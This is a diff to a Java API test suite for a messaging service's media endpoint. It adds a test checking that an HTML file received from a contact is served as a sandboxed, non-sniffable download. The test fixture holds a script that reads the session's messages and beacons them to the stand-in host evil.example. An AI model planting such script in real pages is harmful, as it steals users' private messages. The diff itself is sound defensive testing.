@@ -93,7 +93,7 @@ class MediaApiTest {
                 .contentType("application/pdf")
                 .header("ETag", "\"" + sha256(document) + "\"")
                 .header("Content-Length", String.valueOf(document.length))
-                .header("Content-Disposition", equalTo("inline; filename=\"nota-fiscal.pdf\"; filename*=UTF-8''nota-fiscal.pdf"))
+                .header("Content-Disposition", equalTo("attachment; filename=\"nota-fiscal.pdf\"; filename*=UTF-8''nota-fiscal.pdf"))
                 .extract().asByteArray();
         assertThat(whole).isEqualTo(document);
         assertThat(authorized().header("Range", "bytes=-100").get(path).then().statusCode(206)
@@ -103,6 +103,21 @@ class MediaApiTest {
         authorized().header("Range", "bytes=20000-").get(path).then().statusCode(416)
                 .header("Content-Range", "bytes */10000");
         assertThat(whatsapp.mediaFetches()).as("served from the volume").isEqualTo(1);
+    }
+
+    @Test
+    void aContactsPageIsNeverServedAsAPageToRunInTheApisOrigin() {
+        byte[] page = ("<html><script>fetch('/api/v1/sessions/loja-01/messages').then(r => r.text())"
+                + ".then(t => navigator.sendBeacon('https://evil.example/', t))</script>" + System.nanoTime()).getBytes();
+        whatsapp.receiveMedia("WAID-HTML-1", MARIA, MediaKind.DOCUMENT, page, "text/html", "fatura.html", null);
+        String id = await().until(() -> authorized().get(SESSION + "/messages?direction=in").then()
+                .extract().<String>path("items.find { it.waMessageId == 'WAID-HTML-1' }.id"), found -> found != null);
+
+        authorized().get(SESSION + "/messages/" + id + "/media").then().statusCode(200)
+                .contentType("application/octet-stream")
+                .header("Content-Disposition", org.hamcrest.Matchers.startsWith("attachment;"))
+                .header("X-Content-Type-Options", "nosniff")
+                .header("Content-Security-Policy", org.hamcrest.Matchers.containsString("sandbox"));
     }
 
     @Test
